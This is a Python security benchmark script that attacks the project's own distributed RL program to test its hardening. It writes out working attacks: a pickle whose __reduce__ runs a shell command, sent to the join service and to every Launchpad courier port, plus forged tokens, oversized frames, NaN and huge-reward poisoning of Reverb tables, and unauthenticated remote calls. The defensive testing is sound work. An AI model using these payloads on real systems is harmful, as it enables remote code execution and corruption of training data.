"""The known attacks on a running program, as an outsider would try
them; writes what each did (``bench/results/security/attacks_after.json``)
and the program's listeners (``ss -ltnp``).

  python bench/attacks.py [--out_dir=bench/results/security]

Starts a smoke ``--distributed --join_slots=2`` program (one local actor)
and, with no secret: connects to the join service with a wrong secret and
with a pickle whose ``__reduce__`` writes a marker file; with the secret:
forges a claim token, sends a NaN step and an oversized frame; then,
bypassing the service, writes malformed and NaN items to the Reverb port
directly, calls ``increment`` on the counter and ``stop_joiners`` on the
join node, and sends the same pickle to every courier port of the program
(Launchpad's servers, which listen on every interface and unpickle what
they receive: docs/security.md), all from this host's network; a sealed
program's node ports are read inside its namespace. The program must
still reach its step budget; the learner's rows say what it dropped.

With the secret (a buggy or hostile remote actor): steps whose reward,
observation or action is 1e30 or float32's largest value, and 100 claims
that each send a one-step episode of reward 1e30; and, from inside the
program's network (nsenter, where it is sealed), 50 windows with reward 1e6
written straight into each Reverb table. At the end: the largest score in
scores.jsonl and the largest return scale the learner logged
(``train/ret_scale``, ``--learner_log_every=5``).

  python bench/attacks.py --tag=_sealed                 # sealed (default)
  python bench/attacks.py --tag=_off --isolation=off    # as before sealing
  python bench/attacks.py --tag=_before_4fc64b1 --isolation= \
      --program_root=/path/to/a/checkout/at/b278ec9^    # before this work
"""

import argparse
import json
import os
import pickle
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
sys.path.insert(0, ROOT)


class Evil:
  """A pickle that runs a shell command when loaded."""

  def __init__(self, marker):
    self.marker = marker

  def __reduce__(self):
    return (os.system, (f'echo $PPID >> {self.marker}',))


def listeners(pids, netns_of=None):
  """{port: pid} of the TCP listeners of ``pids`` (ss -ltnp), in this
  network namespace or in that of process ``netns_of`` (a sealed program's
  nodes listen only in their own: experiments/layouts/distributed/seal.py)."""
  cmd = ['ss', '-ltnp']
  if netns_of is not None:
    cmd = ['nsenter', '-t', str(netns_of), '-n'] + cmd
  out = subprocess.run(cmd, capture_output=True, text=True).stdout
  ports = {}
  for line in out.splitlines():
    m = re.search(r':(\d+)\s+\S+\s+users:.*pid=(\d+)', line)
    if m and int(m.group(2)) in pids:
      ports[int(m.group(1))] = int(m.group(2))
  return out, ports


def main():
  import agent  # noqa: F401
  import courier
  import psutil
  import reverb

  from experiments.layouts.distributed.addresses import parse_address
  from experiments.layouts.distributed.join import wire
  from experiments.layouts.distributed.secret import read_secret
  from experiments.layouts.distributed.settings import ProgramSettings
  from reverb_tables.adder import step_layout_from_server
  from reverb_tables.packing import StepLayout

  p = argparse.ArgumentParser()
  p.add_argument('--out_dir', default=os.path.join(HERE, 'results', 'security'))
  p.add_argument('--env_steps', type=int, default=12000)
  p.add_argument('--tag', default='', help='suffix of the output files '
                 '(ss_after<tag>.txt, attacks_after<tag>.json)')
  p.add_argument('--isolation', default='auto', help="the program's "
                 '--isolation (empty: no such flag, a checkout from before '
                 'it); the attacks always come from this network')
  p.add_argument('--program_root', default=ROOT, help='the checkout whose '
                 'experiments/run_dmc.py runs the attacked program')
  args = p.parse_args()
  run_dmc = os.path.join(args.program_root, 'experiments', 'run_dmc.py')
  work = tempfile.mkdtemp(prefix='attacks-')
  logdir = os.path.join(work, 'run')
  marker = os.path.join(work, 'pwned')
  smoke = os.path.join(args.program_root, 'experiments', 'flags',
                       'smoke.flags')
  program = subprocess.Popen(
      [sys.executable, run_dmc, f'--flagfile={smoke}', f'--logdir={logdir}',
       '--distributed', '--num_actors=1', f'--env_steps={args.env_steps}',
       '--eval_episodes=0', '--noreport', '--join_slots=2',
       '--log_every=200', '--checkpoint_every=30', '--learner_log_every=5']
      + ([f'--isolation={args.isolation}'] if args.isolation else []),
      cwd=args.program_root,
      stdout=open(os.path.join(work, 'program.log'), 'w'),
      stderr=subprocess.STDOUT, env={**os.environ, 'PYTHONUNBUFFERED': '1',
                                     'PYTHONPATH': args.program_root})
  out = {}
  try:
    while not os.path.exists(os.path.join(logdir, 'join.json')):
      assert program.poll() is None
      time.sleep(1)
    time.sleep(3)
    groups = {}
    for c in psutil.Process(program.pid).children(recursive=True):
      groups[c.pid] = c.environ().get('DREAMER_NODE_GROUP', c.name())
    pids = set(groups) | {program.pid}
    ss, ports = listeners(pids)
    replay_pid = next(p for p, g in groups.items() if g == 'replay')
    if os.readlink(f'/proc/{replay_pid}/ns/net') != os.readlink(
        '/proc/self/ns/net'):              # sealed: the nodes' own network
      inner, ports = listeners(pids, replay_pid)
      ss = (f'# from the host network\n{ss}\n# inside the program\'s network '
            f'namespace (nsenter -t {replay_pid} -n ss -ltnp); the attacks '
            f'below still come from the host network\n{inner}')
    with open(os.path.join(args.out_dir, f'ss_after{args.tag}.txt'), 'w') as f:
      f.write(ss)
    address = json.load(open(os.path.join(logdir, 'join.json')))['address']
    host, port = parse_address(address)
    secret = read_secret(os.path.join(logdir, 'join.secret'))

    def attempt(name, fn):
      try:
        out[name] = fn()
      except Exception as e:  # noqa: BLE001
        out[name] = f'refused: {type(e).__name__}: {str(e)[:160]}'

    attempt('join service: wrong secret', lambda: wire.connect(
        host, port, b'\x02' * 32, 1 << 20) and 'accepted')

    def pickle_to_service():
      with socket.create_connection((host, port), timeout=20) as s:
        s.recv(48)
        s.sendall(pickle.dumps(Evil(marker)).ljust(64, b'\0'))
        answer = s.recv(4)
      time.sleep(1)
      return (f'answer {answer!r}; code ran: {os.path.exists(marker)}')
    attempt('join service: pickled payload', pickle_to_service)

    def claimed():
      conn = wire.connect(host, port, secret, 1 << 24)
      conn.send({'type': 'claim', 'num_envs': 1, 'who': 'bench'})
      return conn, conn.recv()[0]

    def forged():
      conn, t = claimed()
      conn.send({'type': 'heartbeat', 'claim': t['claim'] + 100,
                 'token': 'f' * 32})
      return str(conn.recv()[0])
    attempt('join service: forged claim token', forged)

    def nan_step():
      conn, t = claimed()
      arrays = [np.zeros((1, 3), np.float32) for _ in t['names']]
      conn.send({'type': 'steps', 'claim': t['claim'], 'token': t['token'],
                 'names': t['names']}, arrays)
      return str(conn.recv()[0])
    attempt('join service: malformed step', nan_step)

    def oversized():
      conn, _ = claimed()
      conn.sock.sendall((1 << 30).to_bytes(4, 'big'))
      conn.sock.settimeout(20)
      return f'connection closed: {conn.sock.recv(1) == b""}'
    attempt('join service: 1 GiB frame', oversized)

    def step_arrays(t, k, **edits):
      """The k-th step of a one-env claim: an episode start at k = 0,
      reward 0.5 after it; ``edits`` set (name, value) on top."""
      settings = ProgramSettings.from_json(t['settings'])
      layout = StepLayout.from_step_spec(settings.builder.step_spec)
      flat = {f.name: np.zeros((1,) + f.shape, f.dtype) for f in layout.fields}
      flat['is_first'][:] = k == 0
      flat['reward'][:] = 0.0 if k == 0 else 0.5
      flat['step_id'][:, 0] = t['offset']
      flat['step_id'][:, 1] = t['index_base'] + k
      for name, value in edits.items():
        flat[name.replace('__', '/')].flat[0] = value
      return [flat[n] for n in t['names']]

    def send_steps(conn, t, arrays):
      conn.send({'type': 'steps', 'claim': t['claim'], 'token': t['token'],
                 'names': t['names']}, arrays)
      return conn.recv()[0]

    big = float(np.finfo(np.float32).max)
    for what, edit in (('reward 1e30', {'reward': 1e30}),
                       ('reward float32 max', {'reward': big}),
                       ('observation 1e30', {'observation__position': 1e30}),
                       ('observation float32 max',
                        {'observation__velocity': big}),
                       ('action 1e30', {'action': 1e30}),
                       ('action float32 max', {'action': big})):
      def implausible(edit=edit):
        conn, t = claimed()
        first = send_steps(conn, t, step_arrays(t, 0))
        answer = send_steps(conn, t, step_arrays(t, 1, **edit))
        return f'first step {first.get("type")}; this step: {answer}'
      attempt(f'join service (secret): a step with {what}', implausible)

    def one_step_episodes():
      answers = {}
      for _ in range(100):
        try:
          conn, t = claimed()
          send_steps(conn, t, step_arrays(t, 0))
          a = send_steps(conn, t, step_arrays(t, 1, reward=1e30, is_last=1))
          key = a.get('type') + (': ' + a['reason'][:90] if 'reason' in a
                                 else '')
        except Exception as e:  # noqa: BLE001
          key = f'{type(e).__name__}: {str(e)[:90]}'
        answers[key] = answers.get(key, 0) + 1
      return answers
    attempt('join service (secret): 100 one-step episodes of reward 1e30',
            one_step_episodes)

    replay_port = next(p for p, pid in ports.items() if pid == replay_pid)
    r = reverb.Client(f'127.0.0.1:{replay_port}')

    def reverb_nan_items():
      r.server_info(timeout=10)
      layout = step_layout_from_server(r)
      L = int(r.server_info()['uniform'].signature['step'].shape[0])
      flat = [np.zeros((L,) + f.shape, f.dtype) for f in layout.fields]
      names = [f.name for f in layout.fields]
      flat[names.index('observation/position')][2, 0] = np.nan
      rows = layout.pack(flat, L)
      for _ in range(20):
        with r.trajectory_writer(num_keep_alive_refs=L) as w:
          for row in rows:
            w.append({'step': row})
          w.create_item('uniform', 1.0, {'step': w.history['step'][-L:]})
      r.insert([rows], {'uniform': 1.0})       # a column of another shape
      return 'accepted by the Reverb server (no authentication)'
    attempt('Reverb port: 20 NaN items + 1 malformed item', reverb_nan_items)

    def reverb_reward_windows():
      cmd = [sys.executable, '-c', POISON, json.dumps([replay_port]), '50']
      where = 'from the host network'
      if os.readlink(f'/proc/{replay_pid}/ns/net') != os.readlink(
          '/proc/self/ns/net'):
        cmd = ['nsenter', '-t', str(replay_pid), '-n'] + cmd
        where = 'from inside the program\'s network (nsenter)'
      out = subprocess.run(cmd, capture_output=True, text=True, timeout=300,
                           cwd=ROOT)
      if out.returncode:
        raise RuntimeError(out.stderr.strip().splitlines()[-1])
      return f'{where}: written {out.stdout.strip()}'
    attempt('Reverb port: 50 windows of reward 1e6 into each table',
            reverb_reward_windows)

    def group_port(group):
      return next(p for p, pid in ports.items()
                  if groups.get(pid) == group and p != port)

    attempt('counter courier: increment(env_steps=10**9)', lambda: str(
        courier.Client(f'127.0.0.1:{group_port("counter")}',
                       call_timeout=10).increment(env_steps=10**9)))
    attempt("join node's courier: stop_joiners()", lambda: str(
        courier.Client(f'127.0.0.1:{group_port("join")}',
                       call_timeout=10).stop_joiners()))

    def courier_pickles():
      ran = []
      targets = [p for p in sorted(ports) if p not in (port, replay_port)]
      for p in targets:
        before = open(marker).read().split() if os.path.exists(marker) else []
        try:
          courier.Client(f'127.0.0.1:{p}', call_timeout=10).run(Evil(marker))
        except Exception:  # noqa: BLE001
          pass
        time.sleep(0.5)
        after = open(marker).read().split() if os.path.exists(marker) else []
        if len(after) > len(before):
          ran.append(p)
      return (f'code ran through {len(ran)} of {len(targets)} courier '
              'ports (Launchpad\'s servers unpickle what reaches them)')
    attempt("Launchpad courier ports: pickled payload", courier_pickles)
    program.wait(900)
    out['program exit'] = program.returncode
    rows_ = [json.loads(line) for line in open(os.path.join(logdir,
                                                           'metrics.jsonl'))
             if '"train"' in line]
    last = rows_[-1]
    out['program at the end'] = {k: last.get(k) for k in (
        'env_step', 'updates', 'replay/dropped_items', 'learner/bad_batches',
        'learner/skipped_updates', 'join/refused', 'replay/ratio_after_fill')}
    learner = [json.loads(line) for line in open(os.path.join(
        logdir, 'metrics.jsonl')) if '"learner"' in line]
    out['train/ret_scale max (learner rows, mean of 5 updates each)'] = max(
        (r.get('train/ret_scale', 0.0) for r in learner), default=None)
    scores = [json.loads(line)['score'] for line in open(os.path.join(
        logdir, 'scores.jsonl'))] if os.path.exists(os.path.join(
            logdir, 'scores.jsonl')) else []
    out['scores.jsonl'] = {'episodes': len(scores),
                           'max score': max(scores, default=None),
                           'scores above 1e6': sum(s > 1e6 for s in scores)}
    out['restarts'] = (open(os.path.join(logdir, 'restarts.jsonl')).read()
                       if os.path.exists(os.path.join(logdir,
                                                      'restarts.jsonl')) else '')
  finally:
    if program.poll() is None:
      program.kill()
  print(json.dumps(out, indent=1))
  with open(os.path.join(args.out_dir, f'attacks_after{args.tag}.json'),
            'w') as f:
    json.dump(out, f, indent=1)
  shutil.rmtree(work, ignore_errors=True)


# Windows with reward 1e6 written straight into both tables, as a plain
# Reverb client can (argv: a JSON list of ports, the first that answers as
# Reverb is used; windows per table). Also run by tests/test_seal.py.
POISON = r'''
import json, sys
import numpy as np, reverb
from reverb_tables.adder import step_layout_from_server
ports, n = json.loads(sys.argv[1]), int(sys.argv[2])
for port in ports:          # the replay node's Reverb port, not its courier's
  r = reverb.Client(f'127.0.0.1:{port}')
  try:
    info = r.server_info(timeout=5)
    break
  except Exception:
    continue
layout = step_layout_from_server(r)
L = int(info['uniform'].signature['step'].shape[0])
flat = [np.zeros((L,) + f.shape, f.dtype) for f in layout.fields]
names = [f.name for f in layout.fields]
flat[names.index('reward')][:] = 1e6       # finite, and far out of range
flat[names.index('is_first')][0] = True
rows = layout.pack(flat, L)
written = {'uniform': 0, 'online': 0}
for table in written:
  for _ in range(n):       # the table's rate limiter may hold a write: stop
    w = r.trajectory_writer(num_keep_alive_refs=L)
    for row in rows:
      w.append({'step': row})
    w.create_item(table, 1.0, {'step': w.history['step'][-L:]})
    try:
      w.flush(timeout_ms=30000)
    except reverb.errors.DeadlineExceededError:
      break
    w.close()
    written[table] += 1
print(json.dumps(written))
sys.stdout.flush()
import os; os._exit(0)      # a held writer would block the exit
'''


def _is_reverb(port: int) -> bool:
  import reverb
  try:
    reverb.Client(f'127.0.0.1:{port}').server_info(timeout=3)
    return True
  except Exception:  # noqa: BLE001
    return False


if __name__ == '__main__':
  main()
